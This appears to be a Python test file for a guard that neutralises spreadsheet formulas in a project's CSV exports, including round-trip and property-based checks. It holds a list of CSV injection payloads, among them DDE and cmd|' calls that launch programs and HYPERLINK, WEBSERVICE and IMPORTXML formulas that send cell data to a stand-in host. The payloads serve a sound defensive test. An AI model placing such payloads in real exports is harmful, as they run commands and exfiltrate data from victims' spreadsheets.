"""No cell of a schedule computes, whatever people or detectors wrote, and what was written can be read back."""

import ast
import csv
import io
import itertools
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.dossier.plain import visible
from cases.dossier.schedules import cell, guarded, table, unguarded

ROOT = Path(__file__).resolve().parents[3]
SIGNS = "=+-@\t\r|%＝＋－＠｜％−"
BODIES = (
    "1+1",
    "SUM(1;2)",
    "cmd|'/c calc'!A1",
    'HYPERLINK("https://x.example?"&A1;"see")',
    'WEBSERVICE("https://x.example")',
    'IMPORTXML(CONCAT("https://x.example";A1);"//a")',
    'DDE("cmd";"/c calc";"x")',
    "2+5+cmd|' /C notepad'!'A1'",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
FRONTS = ("{}", " {}", "\u00a0{}", "\u3000{}", "\n{}", "x;{}", "x; {}", "x\n{}", "'{}", "' {}", "\t{}", "a;'{}")
FORMULAS = [front.format(sign + body) for sign, front, body in itertools.product(SIGNS, FRONTS, BODIES)]


def read(content: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator))


def computes(text: str) -> bool:
    """Whether a spreadsheet would begin to compute at the front of this cell."""
    bare = text.lstrip().lstrip("\u00a0\u3000")
    return text[:1] in set(SIGNS) or bare[:1] in set(SIGNS)


def test_no_formula_of_many_computes_whatever_separates_the_cells() -> None:
    assert len(FORMULAS) > 500
    content = table({"text": lambda row: row["text"], "next": lambda _: "end"}, [{"text": one} for one in FORMULAS])
    for separator in (",", ";", "\t"):
        cells = [one for row in read(content, separator) for one in row]
        assert [one for one in cells if computes(one)] == [], separator


def test_the_same_rows_without_the_guard_would_compute() -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([one] for one in FORMULAS)
    assert sum(computes(one) for row in read(out.getvalue().encode(), ",") for one in row) > 500


@pytest.mark.parametrize("text", FORMULAS[:: len(BODIES)])
def test_every_formula_can_be_read_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.text(alphabet="=+-@;'\n ax\u3000＝−|", max_size=12))
def test_any_text_can_be_read_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_a_cell_is_what_is_shown_guarded() -> None:
    assert cell("=1\u202e") == "'=1⟨U+202E⟩"
    assert cell("\t=1") == visible("\t=1") == "⟨U+0009⟩=1"


def test_numbers_of_ours_stay_numbers_and_ordinary_text_stays_as_it_is() -> None:
    assert [cell(value) for value in (-5, -0.25, 1e-9, 0, True, None)] == [-5, -0.25, 1e-9, 0, "yes", ""]
    content = table({"weight": lambda row: row}, [-5, -0.25])  # type: ignore[list-item]
    assert read(content, ",")[1:] == [["-5"], ["-0.25"]]
    for text in ("it's 5 – 7; 'quoted'", "a=b", "x-y", "10 %", "mail@example.org", "a; b"):
        assert cell(text) == text


def test_one_module_alone_writes_csv() -> None:
    wrong = []
    for package in ("spine", "people", "detection", "cases", "config"):
        for path in (ROOT / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "to_csv", "write_csv"}:
                    wrong.append(str(path.relative_to(ROOT)))
    assert wrong == ["cases/dossier/schedules.py"]
